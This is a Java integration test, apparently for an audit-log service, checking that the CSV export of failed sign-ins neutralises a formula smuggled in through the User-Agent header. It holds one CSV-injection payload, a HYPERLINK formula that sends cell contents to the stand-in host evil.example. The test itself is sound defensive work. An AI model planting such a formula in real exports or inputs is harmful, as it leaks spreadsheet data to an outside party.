package dev.attest.auditlog;

import dev.attest.identity.Role;
import dev.attest.identity.internal.TestAccounts;
import dev.attest.support.AttestTest;
import dev.attest.support.Http;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;

import java.io.StringReader;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** What an outsider types into a request (here its User-Agent) is text in the audit-trail CSV, never a formula. */
@AttestTest
class AuditExportFormulaTest {

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    @Test
    void aHyperlinkFormulaInAUserAgentIsNeutralisedInTheCsvExport() throws Exception {
        var member = TestAccounts.member(context, Role.VIEWER);
        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
        Http.anonymous(port).postForm("/login", "/login", Map.of("username", member.email(), "password", "not the password"),
                Map.of("User-Agent", formula));

        Http.Response export = Http.withToken(port, AttestTest.ADMIN_TOKEN)
                .get("/api/v1/audit-log/export?format=csv&action=identity.sign-in-failed&target=user:" + member.email());

        assertThat(export.status()).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(export.body())).getRecords();
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("userAgent")).isEqualTo("'" + formula);
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
            }
        }
    }
}
